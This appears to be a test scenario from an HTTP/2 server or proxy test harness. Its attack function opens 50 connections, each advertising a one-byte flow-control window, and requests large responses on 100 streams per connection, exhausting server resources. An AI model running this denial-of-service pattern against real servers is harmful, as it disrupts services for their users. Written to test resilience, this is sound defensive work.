"""Clients that ask for answers on 100 streams each and have a window of one byte: an answer that is given whole."""
import struct
import time

from frames import head, opened, send
from plugin import register

BODY = b"HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: 16000\r\n\r\n" + b"x" * 16000


def attack(node):
    register(node, "long", lambda client: client.sendall(BODY))
    held = []
    for _ in range(50):
        client = opened(node, struct.pack(">HI", 4, 1))
        for stream in range(1, 200, 2):
            send(client, head(stream, "GET", "/api/v1/long/x"))
        held.append(client)
        # what all cost that are in flight at a time is another matter
        time.sleep(0.1)
    return held
